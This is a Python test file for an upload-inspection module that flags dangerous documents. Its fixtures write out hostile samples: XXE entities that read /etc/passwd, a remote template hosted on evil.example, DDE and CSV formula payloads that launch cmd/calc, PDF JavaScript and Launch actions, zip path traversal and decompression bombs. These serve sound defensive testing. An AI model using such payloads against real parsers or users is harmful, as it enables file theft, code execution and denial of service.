"""What could harm who opens a file is found, and no file costs more than it may."""

import tracemalloc
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.files.inspecting import LOOKS, inspect
from portal.files.scanning import scan
from tests.portal.files.sent import (
    GOOD,
    JPEG,
    PNG,
    a_docx,
    a_pdf,
    a_pdf_with_packed,
    an_odt,
    an_xlsx,
    packed,
)

ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
TEMPLATE = (
    '<Relationships><Relationship Type="http://x/relationships/attachedTemplate"'
    ' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
LINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
WIDE = PNG[:16] + (30_000).to_bytes(4, "big") + PNG[20:]


@pytest.mark.parametrize("name", GOOD)
def test_harmless_files_have_no_finding(name):
    ending = name.rpartition(".")[2].lower().replace("jpeg", "jpg")
    assert inspect(GOOD[name], ending) == ""


@pytest.mark.parametrize(
    ("ending", "content", "finding"),
    [
        ("docx", a_docx(("word/a.xml", ENTITIES)), "declarations (DOCTYPE)"),
        ("docx", a_docx(("word/a.xml", OUTSIDE)), "declarations (DOCTYPE)"),
        ("docx", a_docx(("word/a.xml", OUTSIDE.encode("utf-16"))), "declarations (DOCTYPE)"),
        ("docx", a_docx(("word/_rels/settings.xml.rels", TEMPLATE)), "from elsewhere"),
        ("docx", a_docx(("word/embeddings/oleObject1.bin", b"x")), "another file inside"),
        ("docx", a_docx(("../../evil.xml", "x")), "points outside"),
        ("docx", a_docx(("/etc/evil.xml", "x")), "points outside"),
        ("docx", a_docx(("C:\\evil.xml", "x")), "points outside"),
        ("docx", a_docx(("word/a.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>")), "(DDE)"),
        ("docx", a_docx(("word/a.docx", packed([("b.docx", packed([("c", "d")]))]))),
         "another file inside"),
        ("xlsx", an_xlsx(("xl/a.xml", b"A" * 60_000_000)), "unpacks to more"),
        ("odt", an_odt(("META-INF/manifest.xml", "<manifest:encryption-data/>")), "a password"),
        ("pdf", a_pdf(b"/Encrypt 5 0 R"), "a password"),
        ("pdf", a_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "scripts"),
        ("pdf", a_pdf(b"/OpenAction << /S /J#61vaScript >>"), "scripts"),
        ("pdf", a_pdf(b"/AA << /S /Launch >>"), "another program"),
        ("pdf", a_pdf(b"/Names << /EmbeddedFiles 4 0 R >>"), "another file inside"),
        ("pdf", a_pdf_with_packed(b"/S /JavaScript"), "scripts"),
        ("pdf", a_pdf(stream=b"x", about=b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]"),
         "unusual way"),
        ("pdf", a_pdf()[:-20], "damaged"),
        ("csv", b"name,total\nKim,=cmd|' /C calc'!A0\n", "formulas"),
        ("csv", b'name\n"=1+1"\n', "formulas"),
        ("csv", b"name\n @SUM(A1)\n", "formulas"),
        ("csv", "\ufeff=1+1".encode(), "formulas"),
        ("csv", "name\n=1+1".encode("utf-16"), "formulas"),
        ("csv", "name,\uff1d1+1".encode(), "formulas"),
        ("csv", b"name,+1+cmd|' /C calc'!A0", "formulas"),
        ("txt", "<script>".encode("utf-16"), "a web page"),
        ("txt", b"Hello\n<script>alert(1)</script>", "a web page"),
        ("png", WIDE, "larger than any picture"),
        ("png", PNG[:40], "damaged"),
        ("jpg", JPEG[:10], "damaged"),
    ],
)  # fmt: skip
def test_what_could_harm_is_found(ending, content, finding):
    assert finding in inspect(content, ending)


def test_links_to_pages_and_letters_in_packed_pictures_are_no_finding():
    assert inspect(a_docx(("word/_rels/document.xml.rels", LINK)), "docx") == ""
    assert inspect(a_pdf(stream=b"\x01/JS \x02/Encrypt \x03"), "pdf") == ""
    assert inspect(an_xlsx(("xl/printerSettings/printerSettings1.bin", b"x")), "xlsx") == ""


def test_numbers_with_signs_and_telephone_numbers_are_no_formulas():
    assert inspect(b"name,change,tel\nKim,-5,+44 161 496 0000\n", "csv") == ""


@pytest.mark.parametrize(
    ("ending", "content"),
    [
        ("csv", b"," + b" " * 3_000_000),
        ("csv", b"\n" * 3_000_000),
        ("csv", b"+" * 3_000_000),
        ("docx", a_docx(("a.rels", b"<" + b"External" * 300_000))),
        ("docx", a_docx(("a.xml", b"DDE " * 700_000))),
        ("docx", a_docx(("a.rels", b"<" * 3_000_000))),
        ("pdf", a_pdf(b"stream\n" * 15_000)),
        ("pdf", a_pdf(b"#2f" * 500_000)),
        ("jpg", b"\xff\xd8" + b"\xff" * 1_000_000),
    ],
)
def test_content_made_to_be_slow_to_judge_is_judged(ending, content):
    assert isinstance(inspect(content, ending), str)


def test_a_flipped_byte_in_a_packed_file_is_found():
    body = bytearray(packed([("word/document.xml", "Hello " * 50)], store=True))
    body[60] ^= 1
    assert inspect(bytes(body), "docx") == "it is damaged"


@pytest.mark.walk
def test_a_bomb_is_found_before_it_fills_the_memory():
    # Past the bound of what may be unpacked.
    bomb = an_xlsx(("xl/a.xml", b"\0" * 120_000_000))
    packed_objects = zlib.compress(b"\0" * 120_000_000)
    about = b"/Type /ObjStm /Filter /FlateDecode"
    tracemalloc.start()
    assert "unpacks to more" in inspect(bomb, "xlsx")
    assert "unpacks to more" in inspect(a_pdf(stream=packed_objects, about=about), "pdf")
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 250_000_000


@given(st.sampled_from(sorted(LOOKS)), st.sampled_from(sorted(GOOD)), st.data())
def test_damaged_files_never_crash_the_look(ending, name, data):
    body = bytearray(GOOD[name])
    for _ in range(data.draw(st.integers(0, 4))):
        body[data.draw(st.integers(0, len(body) - 1))] = data.draw(st.integers(0, 255))
    assert isinstance(inspect(bytes(body[: data.draw(st.integers(0, len(body)))]), ending), str)


def test_an_outside_scanner_says_clean_found_or_could_not_tell(tmp_path):
    tool = tmp_path / "scanner"
    tool.write_text('#!/bin/sh\ngrep -q EICAR && exit 1; exit "${1:-0}"\n', encoding="utf-8")
    tool.chmod(0o700)
    assert scan(str(tool), b"hello") == ""
    assert scan(str(tool), b"an EICAR text") == "a scanner for viruses found something in it"
    assert scan(f"{tool} 2", b"hello") is None
    assert scan(str(tmp_path / "none"), b"hello") is None
    assert scan("'", b"hello") is None
